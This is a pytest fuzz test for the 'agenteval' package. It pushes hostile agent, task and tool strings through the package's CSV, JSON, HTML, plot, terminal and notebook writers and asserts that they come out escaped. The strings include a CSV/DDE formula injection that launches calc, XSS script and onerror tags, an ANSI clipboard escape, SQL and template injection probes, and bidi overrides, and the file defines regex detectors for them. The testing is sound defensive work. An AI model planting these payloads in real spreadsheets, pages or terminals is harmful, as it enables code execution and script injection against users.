"""Hostile ids and texts through every writer (issue 18.11): CSV, JSON, NetCDF, figures, the
report, the terminal table and messages. A seeded generator mixes formula prefixes, ANSI
escapes, NUL and other control characters, lone surrogates, bidirectional overrides, ``$...$``,
``<script>`` and very long strings into agent, task, session, question and answer texts and
tool names and arguments; every writer must finish without a traceback, and where a medium
must not hold them (a CSV cell's first character, a terminal, an HTML page) none arrive raw."""

from __future__ import annotations

import csv
import io
import json
import random
import re
import time
from pathlib import Path

import pytest

from agenteval import Agentic, BayesianMode
from agenteval.cli import main

FRAGMENTS = [
    "=HYPERLINK(\"http://x.invalid/?\"&A1,\"go\")", "+1+2", "-2+3+cmd|' /C calc'!A0", "@SUM(A1:A9)",
    "\t=1", "\r=1", "\uff1dSUM(1)", "\x1b[31mred\x1b[0m", "\x1b]52;c;aGk=\x07", "\x1b[2J",
    "nul\x00byte", "bell\x07", "back\x08space", "\x9b31m", "\x7f", "lone\ud800surrogate",
    "\udfff", "rtl\u202eevil\u202c", "\u2066iso\u2069", "line\u2028sep", "budget $5 or $10",
    "$x^2$", "$\\frac{1}{0}$", "<script>alert(1)</script>", "</td><img src=x onerror=alert(1)>",
    "{{ 7*7 }}", "' OR 1=1 --", "\"quoted\"", "comma,semi;colon", "new\nline", "ok",
]
"""The hostile pieces; texts are built by joining a few of them."""

ATTACKS = ("=", "+", "-", "@", "\t", "\r", "\uff1d")
UNSAFE = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029"
                    "\u202a-\u202e\u2066-\u2069\ud800-\udfff]")
"""What a terminal must never receive raw (tab and newline are fine)."""


def hostile(rng: random.Random, *, long: bool = False) -> str:
    text = "".join(rng.choice(FRAGMENTS) for _ in range(rng.randint(1, 3)))
    if long:
        text += "x" * rng.choice((2_000, 20_000))
    return text


def suite(seed: int = 7, agents: int = 3, tasks: int = 4, attempts: int = 2) -> list[dict]:
    """Conversations whose every id and text is hostile; agent and task ids lead with a formula
    or escape so each writer meets them first-hand."""
    rng = random.Random(seed)
    agent_ids = [FRAGMENTS[i] + f"agent{i}" for i in range(agents)]
    agent_ids[0] = "=cmd|' /C calc'!A0 \x1b[31m\x00 $5 or $10 \ud800 <script>x</script>"
    task_ids = [rng.choice(FRAGMENTS[:12]) + f"task{t}" + rng.choice(FRAGMENTS) for t in range(tasks)]
    out = []
    for a, agent in enumerate(agent_ids):
        for t, task in enumerate(task_ids):
            for k in range(attempts):
                tool = {"tool_name": hostile(rng), "parameters": {hostile(rng): hostile(rng),
                                                                  "q": hostile(rng)},
                        "result": hostile(rng), "step": 1}
                out.append({
                    "session_id": f"{hostile(rng)}-{a}-{t}-{k}", "assistant_id": agent,
                    "task_id": task, "attempt": k + 1, "context": hostile(rng),
                    "conversation": [{
                        "qa_id": hostile(rng), "query": hostile(rng, long=k == 0),
                        "assistant": hostile(rng, long=t == 0),
                        "ground_truth_assistant": hostile(rng),
                        "agentic": {"tools_used": [tool], "final_answer_uses_tools": True},
                        "ground_truth_agentic": {"expected_tools": [
                            {k: v for k, v in tool.items() if k != "result"}]},
                        "score": rng.choice((0.0, 1.0))}],
                })
    return out


def _check_terminal(text: str, where: str) -> None:
    bad = UNSAFE.search(text)
    assert bad is None, f"{where}: raw {bad.group()!r} at {bad.start()}: {text[max(0, bad.start() - 60):bad.start() + 20]!r}"


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def _check_csv(path: Path) -> int:
    cells = 0
    with path.open(newline="", encoding="utf-8") as fh:
        for row in csv.reader(fh):
            for cell in row:
                cells += 1
                assert not cell.startswith(ATTACKS) or _number(cell), \
                    f"{path.name}: formula cell {cell[:40]!r}"
                found = UNSAFE.search(cell.replace("\r", ""))
                assert found is None, f"{path.name}: raw {found.group()!r} in {cell[:60]!r}"
    return cells


def _check_html(path: Path) -> None:
    page = path.read_text(encoding="utf-8")
    assert "<script>alert(1)</script>" not in page and "<script>x</script>" not in page
    assert "onerror=alert(1)>" not in page
    found = UNSAFE.search(page)
    assert found is None, f"{path.name}: raw {found.group()!r}"


@pytest.fixture(scope="module")
def data_file(tmp_path_factory: pytest.TempPathFactory) -> Path:
    path = tmp_path_factory.mktemp("hostile") / "hostile.jsonl"
    # json.dumps escapes every control character and surrogate: the file itself is valid UTF-8
    path.write_text("\n".join(json.dumps(r) for r in suite()) + "\n", encoding="utf-8")
    return path


def test_every_writer_survives_hostile_ids_and_texts(data_file, tmp_path, capsys):
    start = time.perf_counter()
    out = tmp_path / "out"
    # the CLI with --out: the terminal table, messages, every CSV, results.json, report.html,
    # posterior.nc and the figures
    assert main(["run", str(data_file), "--k", "2", "--mode", "bayesian", "--out", str(out)]) == 0
    captured = capsys.readouterr()
    _check_terminal(captured.out, "stdout (table)")
    _check_terminal(captured.err, "stderr (messages)")
    csvs = sorted(out.glob("*.csv"))
    assert {p.name for p in csvs} >= {"conversations.csv", "interactions.csv", "summary.csv"}
    assert sum(_check_csv(p) for p in csvs) > 100
    _check_html(out / "report.html")
    results_json = json.loads((out / "results.json").read_text(encoding="utf-8"))
    assert results_json["conversations"] if "conversations" in results_json else results_json
    figures = list((out / "figures").glob("*.png"))
    assert figures and all(p.stat().st_size > 1000 for p in figures)
    from agenteval._util import arviz as _arviz

    posterior = _arviz.from_netcdf(str(out / "posterior.nc"))
    agents = [str(a) for a in posterior.posterior["agent"].values]
    assert len(agents) == 3 and not any("\x00" in a for a in agents)
    # the stored results load back and print again: agenteval show
    assert main(["show", str(out)]) == 0
    shown = capsys.readouterr()
    _check_terminal(shown.out, "show stdout")
    _check_terminal(shown.err, "show stderr")
    # stdout as CSV and JSON
    assert main(["run", str(data_file), "--k", "2", "--format", "csv"]) == 0
    as_csv = capsys.readouterr()
    _check_terminal(as_csv.out.replace("\r", ""), "stdout (csv)")
    for row in csv.reader(io.StringIO(as_csv.out)):
        assert not any(cell.startswith(ATTACKS) and not _number(cell) for cell in row)
    assert main(["run", str(data_file), "--k", "2", "--format", "json"]) == 0
    as_json = capsys.readouterr()
    _check_terminal(as_json.out, "stdout (json)")
    json.loads(as_json.out)
    seconds = time.perf_counter() - start
    print(f"hostile fuzz through the CLI writers: {seconds:.1f} s")
    assert seconds < 60


def test_figures_draw_data_text_as_written(data_file):
    """``$5 or $10`` in an agent id is a label, not mathtext (before: a traceback, or a label
    silently changed to italic math)."""
    import matplotlib.pyplot as plt

    from agenteval import plots

    results = Agentic.run(str(data_file), k=2, statistical_mode=BayesianMode(), progress=False)
    for name in ("plot_pass_posterior", "plot_forest", "plot_shrinkage", "plot_prior_posterior"):
        fig = getattr(plots, name)(results)
        buffer = io.BytesIO()
        fig.savefig(buffer, format="png", dpi=50)
        fig.savefig(io.BytesIO(), format="pdf")
        texts = [t for t in fig.findobj(plt.Text) if "$5" in t.get_text()]  # the data's text
        texts += list(fig.axes[0].get_yticklabels()) if name == "plot_forest" else []  # ids, cut
        assert texts, name
        assert all(not t._parse_math for t in texts)  # drawn as written (mathtext: own labels)
        if name == "plot_forest":  # each task under its own label, whatever "/" the agent has
            from agenteval._util.sanitize import terminal

            labels = [t.get_text() for t in fig.axes[0].get_yticklabels()]
            tasks = {m.task_id for m in results}  # full ids; a tick may be cut to fit the width
            assert len(tasks) == 4 and set(fig.agenteval_values["rows"]) >= tasks
            shown = {terminal(t) for t in tasks}
            assert all(any(lb == t or (lb.endswith("\u2026") and t.startswith(lb[:-1]))
                           for lb in labels) for t in shown), (shown, labels)
            assert not any(UNSAFE.search(label) for label in labels)
        plt.close(fig)
    summary = plots.plot_rate_posteriors(results) if hasattr(plots, "plot_rate_posteriors") \
        else None
    if summary is not None:
        summary.savefig(io.BytesIO(), format="png", dpi=50)
        plt.close(summary)


def test_netcdf_and_html_writers_from_python(data_file, tmp_path):
    results = Agentic.run(str(data_file), k=2, statistical_mode=BayesianMode(), progress=False)
    path = results.to_netcdf(tmp_path / "posterior.nc")
    assert Path(path).stat().st_size > 1000
    html = results._repr_html_()
    assert "<script>alert(1)</script>" not in html and "<script>x</script>" not in html
    assert UNSAFE.search(html) is None


def test_prior_explorer_widget_escapes_the_group_name(data_file):
    """The widget's numbers line is HTML: an agent id with <script> was written into it raw."""
    pytest.importorskip("ipywidgets")
    from agenteval.widgets import prior_explorer

    results = Agentic.run(str(data_file), k=2, statistical_mode=BayesianMode(), progress=False)
    explorer = prior_explorer(results)
    hostile_group = next(g for g in explorer.group.options if "<script>" in g)
    explorer.group.value = hostile_group
    assert "<script>x</script>" not in explorer.numbers.value
    assert "&lt;script&gt;x&lt;/script&gt;" in explorer.numbers.value
    assert UNSAFE.search(explorer.numbers.value) is None


def test_the_magic_shows_hostile_ids_escaped(capsys):
    """%agentic_eval: the returned results' HTML, the warnings it prints and a one-line
    UsageError that quotes an id (a repeated session id) carry no raw control characters."""
    pytest.importorskip("IPython")
    from IPython.core.error import UsageError
    from IPython.core.interactiveshell import InteractiveShell

    shell = InteractiveShell.instance()
    assert shell.run_cell("%load_ext agenteval").success
    from agenteval.core import jsonio

    with pytest.warns(UserWarning, match="lone surrogate"):  # Python strings must be valid
        shell.user_ns["h"] = jsonio.loads(json.dumps(suite(agents=2, tasks=2)))
    out = shell.run_cell("%agentic_eval h --k 2", store_history=False)
    assert out.success, out.error_in_exec
    html = out.result._repr_html_()
    assert "<script>x</script>" not in html and UNSAFE.search(html) is None
    twice = [dict(r) for r in shell.user_ns["h"][:1]] * 2
    twice[0]["session_id"] = twice[1]["session_id"] = "dup\x1b[2J\u202e"
    shell.user_ns["h"] = twice
    bad = shell.run_cell("%agentic_eval h --k 1", store_history=False)
    assert isinstance(bad.error_in_exec, UsageError), bad.error_in_exec
    assert "dup" in str(bad.error_in_exec) and UNSAFE.search(str(bad.error_in_exec)) is None
    captured = capsys.readouterr()
    _check_terminal(captured.err, "magic stderr")
    shell.user_ns.pop("h", None)


def test_rag_writers_survive_hostile_ids_and_texts(tmp_path, capsys):
    rng = random.Random(11)
    cases = [{"id": f"{hostile(rng)}{i}", "question": hostile(rng), "expected_answer": hostile(rng),
              "retrieval_context": [hostile(rng) for _ in range(3)]} for i in range(6)]
    cases[0]["id"] = "=cmd|' /C calc'!A0\x1b[2J"
    data = tmp_path / "rag.jsonl"
    data.write_text("\n".join(json.dumps(c) for c in cases) + "\n", encoding="utf-8")
    for metric in ("precision", "recall"):
        out = tmp_path / metric
        main(["rag", metric, str(data), "--out", str(out)])  # exit 1 if nothing is scorable
        captured = capsys.readouterr()
        assert "Traceback" not in captured.err
        _check_terminal(captured.out, f"rag {metric} stdout")
        _check_terminal(captured.err, f"rag {metric} stderr")
        files = sorted(out.glob("*.csv"))
        assert len(files) == 3 and all(_check_csv(p) >= 0 for p in files)
        json.loads((out / f"{metric}.json").read_text(encoding="utf-8"))
